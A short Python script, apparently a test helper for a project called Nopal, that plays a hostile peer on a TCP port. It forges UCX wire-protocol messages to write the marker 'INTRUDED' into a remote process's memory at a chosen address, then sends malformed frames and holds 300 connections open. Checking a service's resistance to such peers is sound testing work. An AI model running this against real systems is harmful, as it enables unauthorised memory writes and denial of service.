# SPDX-License-Identifier: MIT
"""Somebody who reaches a TCP port of a process, and wants to write into the process or to end it.

usage: intruder.py HOST PORT ADDRESS       the address, hexadecimal, is where to write

He says what UCX says over TCP, to write by a put that UCX's TCP takes itself. When a line comes on
his standard input, he closes such a connection early, sends bytes that mean nothing, and the first
word of a connection of Nopal's, and leaves many connections open until that input ends.
"""

import os
import socket
import struct
import sys

_WORD = b"INTRUDED"
_MANY = 300
_PATIENCE_S = 0.2
_CONNECTING_S = 10  # where nobody takes connections any more

_UCX_BEGINS = struct.pack("<Q", 0xCAFEBABE12345678)
_UCX_ASKS = struct.pack("<BIIBQH", 32, 29, 1, 0, 7, 2) + bytes([18, 103, 127, 0, 0, 1]) + bytes(8)
_NOPAL_BEGINS = struct.pack("<QIIQ", 0x6E6F70616C20736D, 0, 1, 1)


def connected(host, port):
    made = socket.create_connection((host, port), timeout=_CONNECTING_S)
    made.settimeout(_PATIENCE_S)
    return made


def speak(host, port, *parts):
    """Sends each part when the one before has been answered, or not for a while."""
    try:
        with connected(host, port) as to:
            for part in parts:
                to.sendall(part)
                try:
                    to.recv(4096)
                except TimeoutError:
                    pass
    except OSError:
        pass  # turned away


def main(host, port, address):
    put = struct.pack("<BIQQI", 33, 20, int(address, 16), len(_WORD), 1) + _WORD
    speak(host, port, _UCX_BEGINS + _UCX_ASKS, put)
    print("written", flush=True)
    sys.stdin.readline()
    many = []
    for _ in range(_MANY):
        try:
            many.append(connected(host, port))
        except OSError:
            pass
    for begin in (b"", _UCX_BEGINS, _NOPAL_BEGINS):
        speak(host, port, begin + os.urandom(1))
        speak(host, port, begin + os.urandom(4096))
    speak(host, port, _NOPAL_BEGINS, bytes(8), bytes(4096))
    print("done", flush=True)
    sys.stdin.read()
    for each in many:
        each.close()


if __name__ == "__main__":
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
